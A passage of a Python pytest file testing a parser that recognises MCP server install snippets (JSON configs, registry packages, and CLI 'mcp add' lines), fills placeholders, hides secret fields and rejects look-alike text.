    [found] = recognize(json.dumps({"mcpServers": {"acme": {"command": command, "args": []}}}), HOME)
    assert (found.entry["command"], found.entry["args"]) == (command, [])
    assert [one.placeholder for one in found.wants] == ["<your path to the Acme executable>"]


def test_the_whole_line_of_a_container_in_server_json_names_its_image_and_variables_once() -> None:
    words = [{"type": "positional", "value": value} for value in ("run", "ACME_TOKEN", "ghcr.io/acme/mcp:1.2")]
    flags = [{"type": "named", "name": name} for name in ("-i", "-e")]
    package: dict[str, Any] = {"registryType": "oci", "identifier": "acme/mcp", "version": "1.2"}
    package |= {
        "registryBaseUrl": "https://ghcr.io",
        "runtimeArguments": [words[0], *flags, *words[1:]],
        "environmentVariables": [{"name": "ACME_TOKEN"}],
    }
    [found] = recognize(json.dumps({"name": "io.github.acme/mcp", "packages": [package]}), HOME)
    assert found.entry["args"] == ["run", "-i", "--rm", "-e", "ACME_TOKEN", "ghcr.io/acme/mcp:1.2"]


def test_several_lines_that_add_servers_are_several() -> None:
    found = recognize("claude mcp add a -- npx a\nclaude mcp add b -- npx b", HOME)
    assert [one.name for one in found] == ["a", "b"]


def test_several_servers_of_one_snippet_are_several() -> None:
    for text in (
        '{"mcpServers": {"a": {"command": "x"}, "b": {"url": "https://b.example/mcp"}}}',
        '{"mcpServers": {"a": {"command": "x"}}, "servers": {"b": {"url": "https://b.example/mcp"}}}',
    ):
        assert [one.name for one in recognize(text, HOME)] == ["a", "b"]


@pytest.mark.parametrize(
    ("variable", "value", "entry"),
    [
        (Variable("T", ("env", "T"), "<T>"), "v", {"env": {"T": "a v", "U": ""}, "args": ["--x", "<x>"]}),
        (Variable("U", ("env", "U"), ""), "u", {"env": {"T": "a <T>", "U": "u"}, "args": ["--x", "<x>"]}),
        (Variable("U", ("env", "U"), ""), "", {"env": {"T": "a <T>"}, "args": ["--x", "<x>"]}),
        (Variable("x", ("args", 1), "<x>"), "y", {"env": {"T": "a <T>", "U": ""}, "args": ["--x", "y"]}),
    ],
)
def test_a_value_takes_the_place_of_its_placeholder(variable: Variable, value: str, entry: dict[str, Any]) -> None:
    before = {"env": {"T": "a <T>", "U": ""}, "args": ["--x", "<x>"]}
    assert with_value(before, variable, value) == entry


@pytest.mark.parametrize(
    ("text", "is_name"),
    [
        ("io.github.user/server", True), ("com.example/a-b@1.2.0", True), ("io.github.user/server/x", False),
        ("user/server", False), ("./a.b/c d", False), ("https://a.example/x", False),
    ],
)  # fmt: skip
def test_a_name_of_the_registry_is_told_from_other_texts(text: str, is_name: bool) -> None:
    assert is_registry_name(text) is is_name


@pytest.mark.requirement("source-secrets")
def test_what_stands_for_a_password_behind_pass_is_hidden() -> None:
    (one,) = recognize("surreal mcp --user root --pass '<local-pass>' --passive '<mode>'", HOME)
    assert [(want.name, want.secret) for want in one.wants] == [("pass", True), ("passive", False)]


@pytest.mark.requirement("source-recognized")
@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("npx -y acme-mcp \u2014 starts the server", "a remark after \u2014"),
        ("claude mcp add acme -- npx acme-mcp \u2014 then restart", "a remark after \u2014"),
        ("npx -y acme-mcp - starts the server", "a remark after -"),
        ("sudo docker run -i --rm acme/mcp", "sudo may ask for a password"),
        ("https://img.shields.io/badge/a-b?link=cursor%3A%2F%2Fx", "a page for people"),
        ("https://acme.test/install.svg", "a page for people"),
    ],
)
def test_a_text_that_only_resembles_a_server_is_refused_and_says_why(text: str, why: str) -> None:
    with pytest.raises(UnclearSourceError, match=why):
        recognize(text, HOME)


@pytest.mark.requirement("source-recognized")
def test_an_option_of_a_client_that_is_not_used_is_named() -> None:
    (one,) = recognize("codex mcp add acme --url https://acme.test/mcp --startup-timeout 30 --scopes=read", HOME)
    assert one.left_out == ("startup-timeout", "scopes")


@pytest.mark.requirement("source-recognized")
def test_an_example_of_an_address_is_asked_for_with_its_query() -> None:
    (one,) = recognize('DATABASE_URL="postgres://user:pass@localhost/db?sslmode=require" npx acme-mcp', HOME)
    (want,) = one.wants
    assert with_value(one.entry, want, "postgres://a.test/b")["env"] == {"DATABASE_URL": "postgres://a.test/b"}


@pytest.mark.requirement("source-recognized")
def test_the_folder_of_a_file_behind_fastmcp_is_asked_for() -> None:
    (one,) = recognize("fastmcp run server.py:mcp", HOME, exists=lambda path: False)
    assert [(want.keys, want.description) for want in one.wants] == [(("cwd",), "the folder with server.py")]


@pytest.mark.parametrize(
    "line",
    [
        "claude mcp config set a A_KEY=your_key",
        "codex mcp env set a A_KEY your_key",
        "x mcp set-env a A_KEY='your_key'",
    ],
)
def test_a_variable_that_a_client_sets_for_a_server_is_the_server_s(line: str) -> None:
    a, b = recognize(f"claude mcp add a npx a\n{line}\nclaude mcp add b npx b\nclaude mcp list", HOME)
    assert (a.entry["env"], [one.name for one in a.wants]) == ({"A_KEY": "your_key"}, ["A_KEY"])
    assert "env" not in b.entry


@pytest.mark.parametrize("first", ["claude mcp add b npx b", "claude mcp add --transport http a https://a.test/mcp"])
def test_a_variable_that_a_client_sets_for_no_program_of_the_text_is_unclear(first: str) -> None:
    with pytest.raises(UnclearSourceError):
        recognize(f"{first}\nclaude mcp config set a A_KEY=your_key", HOME)
